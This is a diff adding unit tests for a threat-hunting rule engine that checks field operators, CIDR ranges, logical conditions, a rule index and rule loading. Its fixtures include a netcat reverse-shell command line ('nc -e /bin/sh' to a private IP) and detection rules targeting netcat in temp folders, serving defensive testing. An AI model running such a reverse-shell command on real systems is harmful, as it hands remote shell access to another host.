@@ -0,0 +1,103 @@
+import unittest
+import os
+import shutil
+import tempfile
+from thhunt.normalization.registry import normalize_event
+from thhunt.rules.conditions import RuleSyntaxError, compile_predicate
+from thhunt.rules.engine import RuleEngine
+from thhunt.rules.index import RuleIndex
+
+SAMPLE_RULES = os.path.join(os.path.dirname(__file__), "..", "..", "rules", "sample_rules.yml")
+
+def network(**payload):
+    return normalize_event({"type": "network_connection", "timestamp": 1.0, "payload": payload})
+
+def process(**payload):
+    return normalize_event({"type": "process_start", "timestamp": 1.0, "payload": payload})
+
+class TestConditions(unittest.TestCase):
+    def check(self, conditions, event):
+        return compile_predicate(conditions)(event)
+
+    def test_field_operators(self):
+        event = process(name="nc", path="/tmp/.x/nc", cmdline="nc -e /bin/sh 10.0.0.1 4444", pid=4321)
+        self.assertTrue(self.check({"process.name": "nc"}, event))
+        self.assertTrue(self.check({"process.name": ["ncat", "nc"]}, event))
+        self.assertTrue(self.check({"process.name": {"not_in": ["sshd"]}}, event))
+        self.assertTrue(self.check({"process.path": {"startswith": "/tmp/", "endswith": "/nc"}}, event))
+        self.assertFalse(self.check({"process.path": {"startswith": "/TMP/"}}, event))
+        self.assertTrue(self.check({"process.path": {"startswith": "/TMP/", "ignore_case": True}}, event))
+        self.assertTrue(self.check({"process.cmdline": {"regex": r" -e /bin/(ba)?sh"}}, event))
+        self.assertTrue(self.check({"process.pid": {"gte": 4000, "lt": 5000}}, event))
+        self.assertFalse(self.check({"process.ppid": {"gte": 0}}, event))  # missing field
+        self.assertFalse(self.check({"process.user": "root"}, event))
+
+    def test_ranges_and_cidr(self):
+        event = network(remote_ip="::ffff:10.1.2.3", remote_port="8080", local_ip="fe80::1")
+        self.assertTrue(self.check({"network.remote_port": {"gt": 1024}}, event))
+        self.assertTrue(self.check({"network.remote_ip": {"cidr": "10.0.0.0/8"}}, event))
+        self.assertFalse(self.check({"network.remote_ip": {"cidr": ["192.168.0.0/16", "fe80::/10"]}}, event))
+        self.assertTrue(self.check({"network.local_ip": {"cidr": ["192.168.0.0/16", "fe80::/10"]}}, event))
+        self.assertFalse(self.check({"network.state": {"cidr": "10.0.0.0/8"}}, network(state="LISTEN")))
+
+    def test_logical_operators(self):
+        event = normalize_event({"type": "auth_event", "payload": {"user": "root", "result": "failure", "method": "password"}})
+        conditions = {
+            "category": "auth",
+            "auth.result": "failure",
+            "any": [{"auth.user": "root"}, {"auth.user": "admin"}],
+            "not": {"auth.method": "publickey"},
+        }
+        self.assertTrue(self.check(conditions, event))
+        self.assertFalse(self.check(dict(conditions, category="process"), event))
+        self.assertFalse(self.check(dict(conditions, all=[{"auth.user": "root"}, {"auth.method": "publickey"}]), event))
+
+    def test_syntax_errors(self):
+        for conditions in ({"process.name": {"like": "x"}}, {"process.path": {"regex": "("}},
+                           {"network.remote_ip": {"cidr": "10.0.0.0/33"}}, {"any": []}, {"process.pid": {"gt": "many"}}):
+            with self.assertRaises(RuleSyntaxError):
+                compile_predicate(conditions)
+
+class TestIndexedGrammar(unittest.TestCase):
+    def test_index_agrees_with_predicates(self):
+        rules = [
+            {"name": "tmp exec", "conditions": {"category": "process", "process.path": {"contains": "/tmp/"}}},
+            {"name": "nc in tmp", "conditions": {"category": "process", "process.name": ["nc", "ncat"],
+                                                 "process.path": {"contains": "TMP", "ignore_case": True}}},
+            {"name": "reverse shell", "conditions": {"category": "process", "process.name": "nc",
+                                                     "process.cmdline": {"regex": " -e "}}},
+            {"name": "internal", "conditions": {"category": "network", "network.remote_ip": {"cidr": "10.0.0.0/8"}}},
+            {"name": "broken", "conditions": {"category": "process", "process.name": {"bogus": 1}}},
+            {"name": "everything", "conditions": {}},
+        ]
+        index = RuleIndex(rules)
+        events = [
+            process(name="nc", path="/tmp/nc", cmdline="nc -e sh"),
+            process(name="ncat", path="/var/TMP/ncat", cmdline="ncat -l"),
+            process(name="bash", path="/bin/bash"),
+            network(remote_ip="10.9.9.9"),
+            network(remote_ip="8.8.8.8"),
+        ]
+        for event in events:
+            expected = [r["name"] for r in rules if r["name"] != "broken" and compile_predicate(r["conditions"])(event)]
+            self.assertEqual([r["name"] for r in index.match(event)], expected)
+
+class TestRuleLoading(unittest.TestCase):
+    def setUp(self):
+        self.test_dir = tempfile.mkdtemp()
+
+    def tearDown(self):
+        shutil.rmtree(self.test_dir)
+
+    def test_multi_document_files(self):
+        shutil.copy(SAMPLE_RULES, self.test_dir)
+        with open(os.path.join(self.test_dir, "list.yaml"), "w") as f:
+            f.write("- name: A\n  conditions: {category: auth}\n- name: B\n  conditions: {category: file}\n")
+        engine = RuleEngine(self.test_dir)
+        self.assertEqual(sorted(r["name"] for r in engine.rules),
+                         ["A", "B", "PowerShell Execution", "Suspicious Process in Temp"])
+        matches = engine.evaluate(process(name="x", path="C:\\Users\\bob\\AppData\\Local\\temp\\x.exe"))
+        self.assertEqual([m["rule_name"] for m in matches], ["Suspicious Process in Temp"])
+
+if __name__ == '__main__':
+    unittest.main()